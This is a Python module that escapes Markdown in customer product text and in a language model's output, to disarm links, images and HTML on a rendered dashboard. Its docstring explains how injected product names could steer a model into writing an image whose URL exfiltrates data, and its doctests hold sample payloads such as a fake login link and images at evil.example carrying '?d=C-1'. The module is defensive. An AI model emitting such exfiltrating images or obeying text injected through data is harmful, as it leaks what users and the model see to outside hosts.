"""Text made safe for Markdown: customer text shows as the text it is; a model's text keeps its Markdown but
can reach nothing outside the page.

Product names, ids, cities and categories come from shop exports. Inserted verbatim into an explanation, which
the dashboard renders as Markdown, a name could start a heading, show a link or load an image from anywhere, or
reverse the reading order of the text after it. A language model reads such names too, and what it writes back
may be steered by them: an image in its answer is fetched by the reader's browser the moment it is shown, with
whatever the URL carries (the classic way to exfiltrate what a model saw), and a link can lead anywhere. No
well-kept Python library escapes Markdown (markdown-it-py, mistune and Python-Markdown render it), so this module
does, for CommonMark with GitHub's extensions and Streamlit's additions.
"""

from __future__ import annotations

import re

# Line breaks and other control characters would let text start a block of its own (a heading, a list, a code
# block): each becomes a space. Bidirectional controls (U+202E and others) would reorder what follows: dropped.
_BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_LINE_BREAKING = [*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029]  # Unicode's Cc, Zl and Zp
_WITHOUT_BIDI: dict[int, str | None] = dict.fromkeys(map(ord, _BIDI_CONTROLS))
_FLATTENED: dict[int, str | None] = {**dict.fromkeys(_LINE_BREAKING, " "), **_WITHOUT_BIDI}

# What Markdown reads inside a line, each backslash-escaped: escapes, code, emphasis, strike-through, links and
# images ([ ]), tables (|), headings' closing #, Streamlit's math ($), autolinks and HTML (< before a letter, /, !
# or ?), and entities (& before a letter or #; one could spell a bidi control). Other punctuation means something
# only at the start of a line, where customer text never stands once its line breaks are gone; so "0.73 < 2" and
# "Dolce & Gabbana" stay as they are.
_SPECIAL = re.compile(r"[\\`*_~\[\]|#$]|<(?=[A-Za-z/!?])|&(?=[A-Za-z#])")
# The literal autolinks of http://, www. and e-mail addresses: a renderer links them with or without backslashes
# (Streamlit's does), so an invisible word joiner breaks them instead.
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=[wW]{3})(?=\.)|(?=@)")
_WORD_JOINER = "\u2060"


def markdown_text(text: str) -> str:
    r"""`text` escaped for use inside one line of Markdown (not at its start), e.g. in a heading or a list item.

    Examples:
        >>> print(markdown_text("Serum\n## URGENT [login](https://evil.example) ![](https://evil.example/p.png)")
        ...       .replace("\u2060", "<WJ>"))
        Serum \#\# URGENT \[login\](https:<WJ>//evil.example) !\[\](https:<WJ>//evil.example/p.png)
        >>> print(markdown_text("Dr. C. Tuna Tea Tree Face Wash (P-2001), 50 ml"))
        Dr. C. Tuna Tea Tree Face Wash (P-2001), 50 ml
    """
    return _AUTOLINK.sub(_WORD_JOINER, _SPECIAL.sub(r"\\\g<0>", text.translate(_FLATTENED)))


# In a model's text, what reaches outside the page, each backslash-escaped: the brackets of links, images, reference
# links and their definitions, and < before a letter, /, ! or ? (autolinks and raw HTML). A backslash escape the
# model wrote itself (a backslash before ASCII punctuation) is matched first and kept as it is: a second backslash
# before the bracket of a model's "\[" would make "\\[", an escaped backslash and a live bracket.
_OUTWARD = re.compile(r"\\[!-/:-@\[-`{-~]|[\[\]]|<(?=[A-Za-z/!?])")


def _escape_outward(match: re.Match[str]) -> str:
    found = match.group()
    return found if found.startswith("\\") else f"\\{found}"


def model_markdown(text: str) -> str:
    r"""A language model's Markdown with no link, image or HTML left: headings, emphasis, lists, tables and code
    stay Markdown; link and image syntax, autolinks, web and e-mail addresses and HTML tags show as written, and
    bidirectional controls (which would reorder the text after them, as in customer text) are dropped.

    Escapes are not read inside code spans and blocks, so there a disarmed link or tag shows its backslash (and an
    address its invisible word joiner): telling code apart robustly would take a Markdown parser, and a code span
    found where a renderer sees none would leave its links live.

    Examples:
        >>> print(model_markdown("## C-1\n**At risk**: ![](https://evil.example/p.png?d=C-1) [offer](http://x.example)")
        ...       .replace("\u2060", "<WJ>"))
        ## C-1
        **At risk**: !\[\](https:<WJ>//evil.example/p.png?d=C-1) \[offer\](http:<WJ>//x.example)
    """
    return _AUTOLINK.sub(_WORD_JOINER, _OUTWARD.sub(_escape_outward, text.translate(_WITHOUT_BIDI)))
